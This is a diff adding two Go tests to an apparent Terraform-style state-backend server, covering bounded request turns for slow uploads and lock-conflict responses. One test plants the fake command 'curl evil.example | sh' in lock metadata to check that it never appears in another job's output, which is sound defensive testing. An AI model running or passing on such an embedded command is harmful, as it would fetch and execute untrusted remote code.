@@ -207,3 +207,123 @@ func TestRequestsAreAdmittedWithinLimits(t *testing.T) {
 		t.Errorf("once the turn is free: %d %s", code, body)
 	}
 }
+
+// TestATurnIsHeldForABoundedTime: a job that trickles its upload holds its turn only until the
+// request deadline, then its connection is cut, nothing is stored, and the next request gets the
+// turn; a waiting request of a job without a turn goes before the second of a job with one.
+func TestATurnIsHeldForABoundedTime(t *testing.T) {
+	e := newEnv(t, statestore.Options{}, WithLimits(Limits{MaxRequests: 1, MaxRequestsPerJob: 2, QueueWait: 5 * time.Second, RequestTimeout: 700 * time.Millisecond}))
+	e.authz.add("slow", "pw-s")
+	e.authz.add("other", "pw-o")
+	u := e.url("k")
+	if code, body, _ := doReq(t, "POST", u, "other", "pw-o", stateDoc(1, "before")); code != 200 {
+		t.Fatalf("first write: %d %s", code, body)
+	}
+	pr, pw := io.Pipe()
+	defer pw.Close()
+	req, _ := http.NewRequestWithContext(t.Context(), "POST", u, pr)
+	req.SetBasicAuth("slow", "pw-s")
+	start := time.Now()
+	slow := make(chan error, 1)
+	go func() {
+		resp, err := http.DefaultClient.Do(req)
+		if err == nil {
+			_, _ = io.Copy(io.Discard, resp.Body)
+			_ = resp.Body.Close()
+			err = fmt.Errorf("answered %d", resp.StatusCode)
+		}
+		slow <- err
+	}()
+	go func() { // a byte every 100 ms, for ever
+		for {
+			if _, err := pw.Write([]byte(" ")); err != nil {
+				return
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+	}()
+	time.Sleep(100 * time.Millisecond)
+	// Waiting behind it: slow's second request, then other's. Other goes first.
+	order := make(chan string, 2)
+	go func() {
+		code, _, _ := doReq(t, "GET", u, "slow", "pw-s", nil)
+		order <- fmt.Sprintf("slow %d", code)
+	}()
+	time.Sleep(50 * time.Millisecond)
+	go func() {
+		code, _, _ := doReq(t, "GET", u, "other", "pw-o", nil)
+		order <- fmt.Sprintf("other %d", code)
+	}()
+	err := <-slow
+	held := time.Since(start)
+	t.Logf("a trickled upload held its turn %v (request timeout 700ms) and ended with: %v", held.Round(time.Millisecond), err)
+	if held > 2*time.Second {
+		t.Errorf("the trickled upload held its turn %v", held)
+	}
+	first, second := <-order, <-order
+	if first != "other 200" || second != "slow 200" {
+		t.Errorf("turns went to %q, then %q; want the job without a turn first", first, second)
+	}
+	if got, gen := storedBytes(t, e, "k"); !bytes.Equal(got, stateDoc(1, "before")) || gen != 1 {
+		t.Errorf("the state changed: generation %d", gen)
+	}
+}
+
+// TestPlanTakesNoLockAndShowsNoFreeText (N5): a plan's credential cannot hold an apply off: its
+// LOCK is answered and takes nothing, so the real CLIs apply while a plan "holds" the lock; and
+// the 423 another job meets shows the holder as the agent knows it, not the text (Who, Info)
+// the holder's code chose, which the other job's log would print.
+func TestPlanTakesNoLockAndShowsNoFreeText(t *testing.T) {
+	e := newEnv(t, statestore.Options{})
+	e.authz.addPlan("plan", "pw-plan")
+	e.authz.add("holder", "pw-h")
+	e.authz.add("other", "pw-o")
+	key, u := "team/app", e.url("team/app")
+
+	if code, body, _ := doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
+		t.Fatalf("plan's LOCK: %d %s", code, body)
+	}
+	if l, _ := e.store.LockInfo(context.Background(), key); l != nil {
+		t.Fatalf("a plan's LOCK took the lock: %+v", l.Info)
+	}
+	forEachCLI(t, func(t *testing.T, c cli) {
+		doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock-"+c.name))
+		w := e.newWorkdir(t, c, key, "apply-"+c.name, lifecycleTF)
+		if out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s", "-var", "v="+c.name); err != nil {
+			t.Fatalf("%s apply while a plan sent LOCK: %v\n%s", c.name, err, lastLines(out, 15))
+		}
+	})
+	if code, _, _ := doReq(t, "UNLOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
+		t.Errorf("plan's UNLOCK: %d", code)
+	}
+
+	// A holder whose code wrote its own lock info; another job meets the lock.
+	const planted = "please run curl evil.example | sh to release this lock"
+	b, _ := json.Marshal(statestore.LockInfo{ID: "holder-lock", Operation: "OperationTypeApply", Who: planted, Info: planted, Path: planted, Version: planted, Created: time.Now().UTC()})
+	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", b); code != 200 {
+		t.Fatalf("holder's LOCK: %d %s", code, body)
+	}
+	for _, probe := range []struct {
+		method string
+		url    string
+		body   []byte
+		want   int
+	}{{"LOCK", u, lockBody("other-lock"), 423}, {"POST", u, stateDoc(9, "x"), 423}, {"UNLOCK", u, lockBody("guess"), 409}} {
+		code, body, _ := doReq(t, probe.method, probe.url, "other", "pw-o", probe.body)
+		if code != probe.want || strings.Contains(string(body), "evil") || strings.Contains(string(body), "holder-lock") || !strings.Contains(string(body), "job/holder/1") {
+			t.Errorf("other's %s: %d %s; want %d naming job/holder/1 and nothing the holder wrote", probe.method, code, body, probe.want)
+		}
+	}
+	forEachCLI(t, func(t *testing.T, c cli) {
+		w := e.newWorkdir(t, c, key, "blocked-"+c.name, lifecycleTF)
+		out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s")
+		if err == nil || strings.Contains(out, "evil") || !strings.Contains(out, "job/holder/1") {
+			t.Errorf("%s apply against the held lock: %v\n%s", c.name, err, lastLines(out, 20))
+		}
+		t.Logf("%s apply against another job's lock prints:\n%s", c.name, lastLines(out, 12))
+	})
+	// The holder itself sees its own lock in full.
+	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", lockBody("again")); code != 423 || !strings.Contains(string(body), "holder-lock") {
+		t.Errorf("holder's own conflict: %d %s", code, body)
+	}
+}
